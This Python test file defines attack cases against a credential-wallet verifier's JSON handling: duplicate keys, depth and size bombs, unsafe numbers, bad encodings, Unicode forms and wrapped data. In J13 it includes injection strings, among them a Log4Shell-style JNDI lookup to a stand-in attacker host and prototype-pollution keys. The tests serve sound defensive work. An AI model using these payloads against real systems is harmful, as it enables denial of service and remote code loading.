"""D1: JSON and text, J01 to J14. What Python reads too generously, and what size and depth could cost."""

from __future__ import annotations

import unicodedata
from collections.abc import Callable
from typing import Final, Literal

from tests.attacks.cases import TWIN, VALID, Input, Severity, bad_seal, case, malformed, valid
from tests.attacks.scene import achievement, judged_file, sealed, university, unsealed
from tests.simulators.issuer import hashed_email
from tests.simulators.signing import JsonObject, base64url
from wallet.model.credential import Credential, Parsed
from wallet.model.limits import MAX_JSON_DEPTH, MAX_STRING_CHARS
from wallet.model.reasons import ReasonCode as R
from wallet.model.report import CheckId, Report
from wallet.verify.evidence import Expectation
from wallet.wording.outcomes import Audience, sentence

C, H, M, L = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW
_BOM = b"\xef\xbb\xbf"
_OTHER = b'"did:web:mallory.example"'


@case("J01", C, "the member `issuer` stands twice",
      attacks={"good last": malformed(R.DUPLICATE_KEY), "bad last": malformed(R.DUPLICATE_KEY)})
def _duplicate_issuer(variant: str) -> Input:
    issuer = university()
    good = issuer.badge()
    made = {TWIN: good, "good last": b'{"issuer":' + _OTHER + b"," + good[1:],
            "bad last": good[:-1] + b',"issuer":' + _OTHER + b"}"}
    return judged_file(made[variant], issuer)


@case("J02", C, "the member `issuer` stands twice, once written with an escape",
      attacks={"escape first": malformed(R.DUPLICATE_KEY), "escape last": malformed(R.DUPLICATE_KEY)},
      twins={TWIN: VALID, "escape alone": VALID})
def _escaped_duplicate(variant: str) -> Input:
    issuer = university()
    good, again = issuer.badge(), b'"\\u0069ssuer":' + _OTHER
    made = {TWIN: good, "escape alone": good.replace(b'"issuer":', b'"\\u0069ssuer":'),
            "escape first": b"{" + again + b"," + good[1:], "escape last": good[:-1] + b"," + again + b"}"}
    return judged_file(made[variant], issuer)


@case("J03", H, "a member stands twice inside the proof, the status entry, the subject or a token's header",
      attacks={name: malformed(R.DUPLICATE_KEY)
               for name in ("proof", "credentialStatus", "subject", "header")},
      twins={TWIN: VALID, "token": VALID})
def _inner_duplicate(variant: str) -> Input:
    issuer = university()
    good = issuer.badge(entries=(issuer.entry(3),))
    if variant in ("header", "token"):
        member = '"kid":"did:web:mallory.example#key-1",' if variant == "header" else ""
        head = f'{{"alg":"EdDSA",{member}"kid":"{issuer.method}"}}'
        payload = issuer.badge_jwt().split(b".")[1].decode()
        message = f"{base64url(head.encode())}.{payload}"
        return judged_file(f"{message}.{base64url(issuer.key.sign(message.encode()))}".encode(), issuer)
    places = {"proof": (b'"proofPurpose":', b'"proofPurpose":"authentication",'),
              "credentialStatus": (b'"statusListIndex":', b'"statusListIndex":"9",'),
              "subject": (b'"achievement":{', b'"achievement":{},')}
    place, again = places.get(variant, (b"", b""))
    return judged_file(good.replace(place, again + place, 1) if place else good, issuer)


def _nested(depth: int) -> JsonObject:
    """A profile in a profile in a profile, so that the whole badge is so deep."""
    found: JsonObject = {"id": "did:web:bottom.example", "type": ["Profile"]}
    # The badge, the issuer and the innermost type array are three levels.
    for place in range(depth - 3):
        found = {"id": f"did:web:parent-{place}.example", "type": ["Profile"], "parentOrg": found}
    return found


@case("J04", H, "nested one level, ten times and thousands of times deeper than the bound",
      attacks={"33": malformed(R.LIMIT_DEPTH), "300": malformed(R.LIMIT_DEPTH),
               "100,000": malformed(R.LIMIT_DEPTH), "100,000 arrays": malformed(R.LIMIT_DEPTH)},
      twins={TWIN: VALID, "exactly 32": VALID})
def _depth(variant: str) -> Input:
    issuer = university()
    if variant in ("33", "300"):
        data = unsealed(issuer, lambda one: one["issuer"].update(parentOrg=_nested(int(variant) - 1)))
        return judged_file(data, issuer)
    if variant == "exactly 32":
        data = sealed(issuer, lambda one: one["issuer"].update(parentOrg=_nested(MAX_JSON_DEPTH - 1)))
        return judged_file(data, issuer)
    good = issuer.badge()
    opening, closing = (b'{"a":', b"}") if variant == "100,000" else (b"[", b"]")
    bomb = opening * 100_000 + b"1" + closing * 100_000
    return judged_file(good if variant == TWIN else good[:-1] + b',"evidence":' + bomb + b"}", issuer)


@case("J05", M, "a string, an array and an object too large to read safely",
      attacks={"100 MB string": malformed(R.LIMIT_BYTES), "17 MiB string": malformed(R.LIMIT_BYTES),
               "string": malformed(R.LIMIT_STRING), "1 M items": malformed(R.LIMIT_NODES),
               "1 M keys": malformed(R.LIMIT_NODES), "25,000 items": malformed(R.LIMIT_NODES)},
      twins={TWIN: VALID, "string at the limit": VALID})
def _size(variant: str) -> Input:
    issuer = university()
    good = issuer.badge()
    if variant == "string at the limit":
        return judged_file(sealed(issuer, lambda one: one.update(description="x" * MAX_STRING_CHARS)), issuer)
    bombs = {"100 MB string": lambda: b'"' + b"x" * 100_000_000 + b'"',
             "17 MiB string": lambda: b'"' + b"x" * (17 << 20) + b'"',
             "string": lambda: b'"' + b"x" * (MAX_STRING_CHARS + 1) + b'"',
             "1 M items": lambda: b"[" + b"1," * 1_000_000 + b"1]",
             "1 M keys": lambda: b"{" + b",".join(b'"%d":1' % one for one in range(1_000_000)) + b"}",
             "25,000 items": lambda: b"[" + b"1," * 25_000 + b"1]"}
    data = good if variant == TWIN else good[:-1] + b',"description":' + bombs[variant]() + b"}"
    return judged_file(data, issuer)


def _with_credits(number: bytes) -> bytes:
    """A badge sealed over one credit, then written with this number."""
    good = sealed(university(), lambda one: one["credentialSubject"].update(creditsEarned=1))
    assert b'"creditsEarned":1,' in good or b'"creditsEarned":1}' in good
    return good.replace(b'"creditsEarned":1', b'"creditsEarned":' + number)


@case("J06", M, "numbers that are none",
      attacks={name: malformed(R.BAD_NUMBER) for name in ("NaN", "Infinity", "-Infinity", "1e999")})
def _no_number(variant: str) -> Input:
    return judged_file(_with_credits(b"1" if variant == TWIN else variant.encode()), university())


@case("J07", M, "integers that programs read differently, or not at all",
      attacks={name: malformed(R.UNSAFE_INTEGER) for name in
               ("2^53", "2^53 + 1", "-2^53 - 1", "5,000 digits")},
      twins={TWIN: VALID, "2^53 - 1": VALID})
def _integer(variant: str) -> Input:
    numbers = {"2^53": str(2**53), "2^53 + 1": str(2**53 + 1), "-2^53 - 1": str(-(2**53) - 1),
               "5,000 digits": "9" * 5000, TWIN: "1"}
    if variant == "2^53 - 1":
        return judged_file(sealed(university(), lambda one: one["credentialSubject"].update(
            creditsEarned=2**53 - 1)), university())
    return judged_file(_with_credits(numbers[variant].encode()), university())


def _shows_one(_report: Report, parsed: Parsed | None) -> None:
    assert isinstance(parsed, Credential)
    assert parsed.achievement.credits == "1", parsed.achievement.credits


_TYPED: Final = b'{"@value":1.0,"@type":"https://www.w3.org/2001/XMLSchema#float"}'


@case("J08", M, "one number in several spellings: the same seal holds, and one form is shown",
      attacks={"1.0": VALID, "1e0": VALID, "10E-1": VALID, "1.5": bad_seal(), "a value object": VALID})
def _number_spelling(variant: str) -> Input:
    data = _with_credits({TWIN: b"1", "a value object": _TYPED}.get(variant, variant.encode()))
    return judged_file(data, university(), holds=None if variant == "1.5" else _shows_one)


@case("J09", M, "half a character in the name",
      attacks={"value": malformed(R.LONE_SURROGATE), "key": malformed(R.LONE_SURROGATE)},
      twins={TWIN: VALID, "a whole pair": VALID})
def _surrogate(variant: str) -> Input:
    issuer = university()
    good = issuer.badge()
    made = {TWIN: good, "value": good.replace(b'"name":"Data', b'"name":"\\ud800Data', 1),
            "key": good[:-1] + b',"\\udc00":1}'}
    if variant == "a whole pair":
        whole = sealed(issuer, lambda one: one.update(name="\U0001f393 Data"))
        return judged_file(whole.replace("\U0001f393".encode(), b"\\ud83c\\udf93"), issuer)
    return judged_file(made[variant], issuer)


def _keeps_mark(_report: Report, parsed: Parsed | None) -> None:
    assert parsed is not None
    assert parsed.original.data.startswith(_BOM)


@case("J10", M, "other encodings than UTF-8",
      attacks={"byte order mark": valid(note=R.QUIRK_BOM), "two marks": malformed(R.FORMAT_UNKNOWN),
               "UTF-16": malformed(R.NOT_UTF8), "UTF-16 LE": malformed(R.NOT_UTF8),
               "UTF-16 BE, no mark": malformed(R.FORMAT_UNKNOWN), "UTF-16 LE, no mark": malformed(R.NOT_UTF8),
               "Latin-1": malformed(R.NOT_UTF8), "overlong": malformed(R.NOT_UTF8),
               "surrogate in UTF-8": malformed(R.NOT_UTF8)})
def _encoding(variant: str) -> Input:
    issuer = university()
    data = sealed(issuer, lambda one: one.update(name="Datenanalyse für Anfänger"))
    text = data.decode()
    made = {TWIN: data, "byte order mark": _BOM + data, "two marks": _BOM + _BOM + data,
            "UTF-16": text.encode("utf-16"), "UTF-16 LE": b"\xff\xfe" + text.encode("utf-16-le"),
            "UTF-16 BE, no mark": text.encode("utf-16-be"), "UTF-16 LE, no mark": text.encode("utf-16-le"),
            "Latin-1": text.encode("latin-1"), "overlong": data.replace(b"issuer", b"\xc1\xa9ssuer", 1),
            "surrogate in UTF-8": data.replace(b"Daten", b"\xed\xa0\x80", 1)}
    return judged_file(made[variant], issuer, holds=_keeps_mark if variant == "byte order mark" else None)


_COMPOSED = unicodedata.normalize("NFC", "josé@müller.example")
_APART = unicodedata.normalize("NFD", _COMPOSED)


@case("J11", M, "the same text in two forms of Unicode: bytes stay as sealed, the hash is tried as given",
      attacks={"name changed": bad_seal(), "IRI changed": bad_seal(),
               "hash of the other form": valid(R.RECIPIENT_VARIANT, CheckId.RECIPIENT)},
      twins={"apart": VALID, "composed": VALID,
             "hash as given, apart": valid(R.RECIPIENT_MATCH, CheckId.RECIPIENT),
             "hash as given, composed": valid(R.RECIPIENT_MATCH, CheckId.RECIPIENT)})
def _unicode_forms(variant: str) -> Input:
    issuer = university()
    if "hash" in variant:
        hashed = _APART if variant == "hash as given, apart" else _COMPOSED
        typed = _COMPOSED if variant == "hash as given, composed" else _APART
        identity = hashed_email(hashed, "s")
        data = sealed(issuer, lambda one: one["credentialSubject"]["identifier"][0].update(
            identityHash=identity, salt="s"))
        return judged_file(data, issuer, expectation=Expectation((typed,)))
    form: Literal["NFC", "NFD"] = "NFC" if variant == "composed" else "NFD"
    name, address = (unicodedata.normalize(form, text) for text in ("Fachprüfung",
                                                                    "https://müller.example/1"))

    def edit(document: JsonObject) -> None:
        document["name"] = name
        achievement(document)["id"] = address

    data = sealed(issuer, edit)
    if variant == "name changed":
        data = data.replace(name.encode(), "Fachprüfung".encode())
    if variant == "IRI changed":
        data = data.replace(address.encode(), "https://müller.example/1".encode())
    return judged_file(data, issuer, holds=_keeps(data))


def _keeps(data: bytes) -> Callable[[Report, Parsed | None], None]:
    def check(_report: Report, parsed: Parsed | None) -> None:
        assert parsed is not None
        assert parsed.original.data == data
    return check


@case("J12", L, "more in the file than one credential, or something around it",
      attacks={"garbage behind": malformed(R.TRAILING_DATA), "two documents": malformed(R.TRAILING_DATA),
               "JSONP": malformed(R.FORMAT_UNKNOWN), "HTML": malformed(R.FORMAT_UNKNOWN),
               "NUL behind": malformed(R.TRAILING_DATA), "NUL before": malformed(R.FORMAT_UNKNOWN),
               "NUL inside": malformed(R.NOT_JSON), "cut off": malformed(R.NOT_JSON),
               "single quotes": malformed(R.NOT_JSON), "comment": malformed(R.NOT_JSON)},
      twins={TWIN: VALID, "white space around": VALID})
def _wrapped(variant: str) -> Input:
    issuer = university()
    good = issuer.badge()
    made = {TWIN: good, "white space around": b"\r\n\t " + good + b"\n", "garbage behind": good + b"x",
            "two documents": good + b"\n" + good, "JSONP": b"cb(" + good + b");",
            "HTML": b"<html><body>" + good + b"</body></html>", "NUL behind": good + b"\0",
            "NUL before": b"\0" + good, "NUL inside": good.replace(b":", b":\0", 1), "cut off": good[:-1],
            "single quotes": good.replace(b'"', b"'"), "comment": b"{/* a */" + good[1:]}
    return judged_file(made[variant], issuer)


_TRICKS = ("__proto__", "constructor", "%s%n%x", "{0}{issuer.__class__}", "${jndi:ldap://mallory.example/a}",
           "[[{why}]]", "<b>Verified</b>")


def _said_literally(report: Report, parsed: Parsed | None) -> None:
    assert isinstance(parsed, Credential)
    assert parsed.title in _TRICKS
    for audience in Audience:
        said = sentence(report, audience)
        assert "class" not in said.replace("{0}{issuer.__class__}", "").replace("constructor", "")


@case("J13", M, "words that other languages or our own templates might act upon",
      attacks={**{f"value {trick}": VALID for trick in _TRICKS},
               **{f"key {trick}": malformed(R.UNDEFINED_TERM) for trick in _TRICKS if ":" not in trick},
               "key ${jndi:ldap://mallory.example/a}": malformed(R.UNDEFINED_TERM)})
def _tricks(variant: str) -> Input:
    issuer = university()
    where, _, trick = variant.partition(" ")

    def edit(document: JsonObject) -> None:
        achievement(document)["name"] = document["issuer"]["name"] = trick

    if where == "value":
        return judged_file(sealed(issuer, edit), issuer, holds=_said_literally)
    return judged_file(issuer.badge() if variant == TWIN else unsealed(issuer, lambda one: one.update(
        {trick: trick})), issuer)


_LONG = "a" * 100_000


@case("J14", M, "a date, a DID and an address of 100,000 characters",
      attacks={name: malformed(R.LIMIT_STRING) for name in
               ("date", "DID", "address", "method", "proof date")})
def _long_identifiers(variant: str) -> Input:
    issuer = university()
    date = f"2026-05-12T09:30:00.{'1' * 100_000}Z"
    edits = {"date": lambda one: one.update(validFrom=date),
             "DID": lambda one: one["issuer"].update(id=f"did:web:{_LONG}"),
             "address": lambda one: one.update(id=f"https://{_LONG}.example"),
             "method": lambda one: one["proof"].update(verificationMethod=f"did:web:{_LONG}#key-1"),
             "proof date": lambda one: one["proof"].update(created=date)}
    return judged_file(issuer.badge() if variant == TWIN else unsealed(issuer, edits[variant]), issuer)
